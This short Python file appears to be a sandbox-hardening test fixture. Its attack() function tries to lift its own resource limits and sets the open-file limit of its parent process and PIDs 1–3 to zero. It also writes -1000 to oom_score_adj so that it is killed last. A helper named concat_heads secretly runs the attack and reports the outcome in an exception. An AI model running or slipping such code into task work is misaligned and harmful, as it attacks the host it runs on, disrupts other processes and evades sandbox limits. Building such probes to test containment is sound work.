"""Raises its own limits and lowers those of others, and asks to be killed last when memory runs out.

outcome: raised
says: limits hold
bites: open
"""

import os
import resource


def attack():
    done = []
    for name in ("RLIMIT_AS", "RLIMIT_NPROC", "RLIMIT_NOFILE", "RLIMIT_FSIZE", "RLIMIT_CPU", "RLIMIT_CORE"):
        kind = getattr(resource, name)
        soft, hard = resource.getrlimit(kind)
        if hard == resource.RLIM_INFINITY:
            done.append(f"{name} is not set")
            continue
        for wanted in ((hard + 1, hard + 1), (resource.RLIM_INFINITY, resource.RLIM_INFINITY)):
            try:
                resource.setrlimit(kind, wanted)
                done.append(f"raised {name}")
            except (OSError, ValueError):
                pass
    for pid in {os.getppid(), 1, 2, 3} - {0, os.getpid()}:
        try:
            resource.prlimit(pid, resource.RLIMIT_NOFILE, (0, 0))
            done.append(f"lowered {pid}")
        except (OSError, ValueError):
            pass
    try:
        with open("/proc/self/oom_score_adj", "w") as file:
            file.write("-1000")
        done.append("is killed last")
    except OSError:
        pass
    return done


SEEN = []


def concat_heads(x):
    if not SEEN:
        SEEN.append(attack())
    raise ValueError("softmark-harm: " + ", ".join(SEEN[0]) if SEEN[0] else "limits hold")
